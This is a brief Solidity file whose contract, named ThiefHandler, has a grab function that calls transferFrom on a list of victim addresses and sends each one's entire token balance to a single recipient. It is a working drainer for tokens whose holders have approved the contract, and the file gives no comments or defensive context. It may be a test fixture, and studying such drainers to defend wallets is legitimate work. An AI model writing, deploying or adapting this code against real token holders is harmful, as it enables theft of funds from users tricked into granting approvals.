// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity ^0.8.28;

interface IToken {
    function transferFrom(address from, address to, uint256 amount) external returns (bool);
    function balanceOf(address who) external view returns (uint256);
}

contract ThiefHandler {
    function grab(IToken token, address[] calldata from, address to) external {
        for (uint256 i = 0; i < from.length; i++) token.transferFrom(from[i], to, token.balanceOf(from[i]));
    }
}
